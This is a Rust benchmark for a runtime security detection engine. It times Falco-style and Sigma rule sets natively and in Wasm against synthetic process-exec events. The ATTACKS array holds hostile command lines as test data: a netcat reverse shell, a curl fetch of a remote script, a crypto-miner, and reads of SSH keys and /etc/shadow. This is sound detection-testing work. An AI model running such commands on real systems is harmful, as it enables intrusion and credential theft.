//! Rule files' evaluation speed, printed (BENCHMARKS.md keeps it):
//!
//!     ./scripts/build-rules.sh && cargo bench -p vigil-engine --bench rule_files
//!
//! For each rule set (100 Falco-style exec rules, 120 Sigma process_creation
//! rules, both in `benches/rule-files/`, and the bundled rule files), exec
//! events per second on one core:
//! - native: `vigil-rulelang` evaluating packed events directly;
//! - Wasm: the `declarative.wasm` interpreter component as the daemon runs
//!   it (`LoadedRule::on_batch`: batches of 256 packed events cross into
//!   the component, alerts come back as JSON), under the daemon's deadline
//!   and memory cap.
//!
//! The events are a realistic mix: 4,096 execs of everyday commands on the
//! host and in containers (with pods, labels, 3 ancestors), 1 in 64 an
//! attack command, so some rules match. Figures are medians of 7 rounds;
//! the load (parse + compile) time of each set is printed too.

use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use vigil_engine::config::Config;
use vigil_engine::event::{Ancestor, Container, Event, EventKind, Pod, Process, Runtime};
use vigil_engine::plugin::host::{HostSettings, PluginHost, content_hash};
use vigil_engine::plugin::policy::RulePolicy;
use vigil_engine::plugin::rule::{Loaded, LoadedRule};
use vigil_event::packed::{BatchView, encode_batch};
use vigil_rulelang::fields::EventCtx;
use vigil_rulelang::{CorrelationState, RuleSet, SourceFile, Status};

/// Where the built rules are (`target/rules`, or under `CARGO_TARGET_DIR`).
fn target_dir() -> std::path::PathBuf {
    std::env::var_os("CARGO_TARGET_DIR")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../target"))
}

#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

const EVENTS: usize = 4096;
const BATCH: usize = 256;
const ROUNDS: usize = 7;
/// Rounds when profiling (`--native`).
const PROFILE_ROUNDS: usize = 200;

const EVERYDAY: &[&[&str]] = &[
    &["/bin/ls", "ls", "-la", "/var/www"],
    &["/usr/bin/date", "date", "+%s"],
    &["/bin/sh", "sh", "-c", "wget -q -O /dev/null http://127.0.0.1:8080/healthz || exit 1"],
    &["/usr/bin/python3", "python3", "/app/manage.py", "migrate", "--noinput"],
    &["/usr/local/bin/node", "node", "/srv/app/server.js"],
    &["/usr/bin/git", "git", "rev-parse", "HEAD"],
    &["/usr/bin/cc", "cc", "-O2", "-c", "main.c", "-o", "main.o"],
    &["/usr/bin/dpkg", "dpkg", "-l"],
    &["/bin/ps", "ps", "aux"],
    &["/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"],
    &["/usr/bin/grep", "grep", "-c", "ERROR", "/var/log/app/app.log"],
    &["/usr/bin/tar", "tar", "czf", "/tmp/backup.tgz", "/srv/data"],
    &["/usr/bin/env", "env"],
    &["/bin/hostname", "hostname"],
    &["/usr/bin/curl", "curl", "-fsS", "http://localhost:9090/metrics"],
    &["/usr/bin/java", "java", "-Xmx512m", "-jar", "/opt/app/app.jar", "--spring.profiles.active=prod"],
];

const ATTACKS: &[&[&str]] = &[
    &["/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
    &["/usr/bin/curl", "curl", "-fsSL", "http://203.0.113.7/x.sh"],
    &["/tmp/xmrig", "xmrig", "-o", "stratum+tcp://pool.invalid:3333", "--donate-level", "1"],
    &["/usr/bin/find", "find", "/", "-name", "id_rsa"],
    &["/bin/cat", "cat", "/etc/shadow"],
    &["/usr/bin/chmod", "chmod", "u+s", "/tmp/sh"],
];

fn ancestor(pid: u32, exe: &str, argv: &[&str]) -> Ancestor {
    let comm = exe.rsplit('/').next().unwrap_or(exe);
    Ancestor {
        pid,
        comm: Arc::from(comm),
        exe: Arc::from(exe),
        argv: argv.iter().map(|s| s.to_string()).collect::<Vec<_>>().into(),
    }
}

fn events() -> Vec<Event> {
    (0..EVENTS)
        .map(|i| {
            let argv = if i % 64 == 63 { ATTACKS[i / 64 % ATTACKS.len()] } else { EVERYDAY[i % EVERYDAY.len()] };
            let exe = argv[0];
            let comm: String = exe.rsplit('/').next().unwrap_or(exe).chars().take(15).collect();
            let in_container = i % 3 != 0;
            let mut e = Event {
                id: i as u64 + 1,
                time_ns: 1_700_000_000_000_000_000 + i as u64,
                process: Some(Process {
                    pid: 1000 + i as u32,
                    tgid: 1000 + i as u32,
                    ppid: 900,
                    uid: if i % 5 == 0 { 1000 } else { 0 },
                    comm,
                    exe: exe.into(),
                    argv: argv[1..].iter().map(|s| s.to_string()).collect(),
                    cwd: "/srv/app".into(),
                    ancestry: vec![
                        ancestor(900, "/bin/bash", &["bash"]),
                        ancestor(
                            800,
                            "/usr/bin/containerd-shim-runc-v2",
                            &["containerd-shim-runc-v2", "-namespace", "k8s.io"],
                        ),
                        ancestor(1, "/sbin/init", &["/sbin/init"]),
                    ],
                    ..Default::default()
                }),
                ..Event::new(EventKind::ProcessExec)
            };
            if in_container {
                e.container = Some(Arc::new(Container {
                    id: format!("{:064x}", i % 40 + 1),
                    name: format!("app-{}", i % 40),
                    image: format!("registry.local/team/app-{}:1.{}.0", i % 40, i % 7),
                    runtime: Runtime::Containerd,
                    labels: vec![("app".into(), format!("app-{}", i % 40)), ("team".into(), "payments".into())],
                    ..Default::default()
                }));
                e.pod = Some(Arc::new(Pod {
                    name: format!("app-{}-7d9f", i % 40),
                    namespace: if i % 11 == 0 { "kube-system".into() } else { "shop".into() },
                    uid: format!("6b1c7f0e-{i:08x}"),
                    labels: vec![("app".into(), format!("app-{}", i % 40))],
                    ..Default::default()
                }));
            }
            e
        })
        .collect()
}

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(|a, b| a.partial_cmp(b).unwrap());
    v[v.len() / 2]
}

fn read_set(paths: &[std::path::PathBuf]) -> Vec<SourceFile> {
    paths
        .iter()
        .map(|p| SourceFile::new(p.file_name().unwrap().to_string_lossy(), std::fs::read_to_string(p).unwrap()))
        .collect()
}

/// Native evaluation, as the interpreter does it (the rules that alert, then
/// the correlations, their groups kept across passes as in one instance):
/// events per second and alerts per pass (the last).
fn native(set: &RuleSet, batches: &[Vec<u8>], rounds: usize) -> (f64, usize) {
    let mut rates = Vec::new();
    let mut matches = 0;
    let mut correlations = CorrelationState::default();
    let mut completed = Vec::new();
    for _ in 0..rounds {
        matches = 0;
        let start = Instant::now();
        let mut hits = Vec::new();
        for b in batches {
            let view = BatchView::new(b).unwrap();
            let mut ctx: Option<EventCtx> = None;
            for e in view.iter() {
                let ctx = match &mut ctx {
                    Some(c) => {
                        c.reset(e);
                        c
                    }
                    None => ctx.insert(EventCtx::new(e)),
                };
                hits.clear();
                set.matching(ctx, &mut hits);
                for &h in hits.iter().filter(|&&h| !set.rules()[h as usize].silent) {
                    std::hint::black_box(set.alert(h, ctx));
                    matches += 1;
                }
                correlations.observe(set.correlations(), &hits, ctx, &mut completed);
                matches += completed.len();
                std::hint::black_box(completed.drain(..));
            }
        }
        rates.push(EVENTS as f64 / start.elapsed().as_secs_f64());
    }
    (median(rates), matches)
}

/// The interpreter component: events per second and alerts per pass.
fn wasm(host: &PluginHost, interpreter: &[u8], files: &[SourceFile], batches: &[Vec<u8>]) -> (f64, usize, Duration) {
    let mut config = Config::default();
    config.dispatch.call_timeout = Duration::from_secs(5);
    // Flat out, a CPU budget would throttle what is being measured.
    config.dispatch.cpu_budget = Duration::ZERO;
    let policy = RulePolicy::new(&config);
    let started = Instant::now();
    let loaded =
        LoadedRule::load_files(host, Path::new("[rule files]"), interpreter, &content_hash(interpreter), files, &|m| {
            policy.resolve(m)
        })
        .expect("rule files load");
    let load_time = started.elapsed();
    let Loaded::Rule(mut rule) = loaded else { panic!("rule files disabled") };
    let mut rates = Vec::new();
    let mut alerts = 0;
    for _ in 0..ROUNDS {
        alerts = 0;
        let start = Instant::now();
        for b in batches {
            alerts += rule.on_batch(b, BATCH).expect("no fault").len();
        }
        rates.push(EVENTS as f64 / start.elapsed().as_secs_f64());
    }
    (median(rates), alerts, load_time)
}

fn main() {
    if std::env::args().any(|a| a == "--list") {
        return;
    }
    let here = Path::new(env!("CARGO_MANIFEST_DIR"));
    let interpreter_path = target_dir().join("rules/declarative.wasm");
    let interpreter = std::fs::read(&interpreter_path)
        .unwrap_or_else(|_| panic!("{} missing: run ./scripts/build-rules.sh", interpreter_path.display()));
    let events = events();
    let batches: Vec<Vec<u8>> = events
        .chunks(BATCH)
        .map(|c| {
            let mut b = Vec::new();
            encode_batch(c.iter(), &mut b);
            b
        })
        .collect();
    let host = PluginHost::new(&HostSettings { cache_dir: None }).unwrap();
    let mut bundled: Vec<_> = std::fs::read_dir(here.join("../rules/declarative/rules"))
        .map(|d| {
            d.map_while(Result::ok).map(|e| e.path()).filter(|p| p.extension().is_some_and(|x| x == "yaml")).collect()
        })
        .unwrap_or_default();
    bundled.sort();
    let sets = [
        ("100 Falco-style rules", vec![here.join("benches/rule-files/falco-100.yaml")]),
        ("120 Sigma rules", vec![here.join("benches/rule-files/sigma-120.yaml")]),
        ("bundled rule files", bundled),
    ];
    println!(
        "# Rule files: exec events per second on one core ({EVENTS} events, batches of {BATCH}, median of {ROUNDS})"
    );
    println!(
        "| rule set | rules loaded | not behind the prefilter | load (native) | load (Wasm, incl. instantiation) | native events/s | ns/event | Wasm events/s | ns/event | Wasm/native | matches per pass |"
    );
    println!("|---|---|---|---|---|---|---|---|---|---|---|");
    // `-- --only TEXT`: only the sets whose name contains TEXT; `--native`: skip Wasm (for profiling).
    let args: Vec<String> = std::env::args().collect();
    let only = args.iter().position(|a| a == "--only").and_then(|i| args.get(i + 1)).cloned();
    let native_only = args.iter().any(|a| a == "--native");
    for (name, paths) in sets {
        if paths.is_empty() || only.as_ref().is_some_and(|o| !name.contains(o.as_str())) {
            continue;
        }
        let files = read_set(&paths);
        let started = Instant::now();
        let (set, report) = RuleSet::load(&files);
        let load_native = started.elapsed();
        assert_eq!(report.count(Status::Invalid), 0, "{name}: {report:#?}");
        let (native_rate, native_matches) = native(&set, &batches, if native_only { PROFILE_ROUNDS } else { ROUNDS });
        let (wasm_rate, wasm_alerts, load_wasm) = if native_only {
            (f64::NAN, native_matches, Duration::ZERO)
        } else {
            wasm(&host, &interpreter, &files, &batches)
        };
        assert_eq!(native_matches, wasm_alerts, "native and Wasm agree");
        println!(
            "| {name} | {} | {} | {:.1} ms | {:.1} ms | {:.0} | {:.0} | {:.0} | {:.0} | {:.2} | {native_matches} |",
            set.rules().len(),
            set.exec_plan_counts().1,
            load_native.as_secs_f64() * 1e3,
            load_wasm.as_secs_f64() * 1e3,
            native_rate,
            1e9 / native_rate,
            wasm_rate,
            1e9 / wasm_rate,
            wasm_rate / native_rate,
        );
    }
}
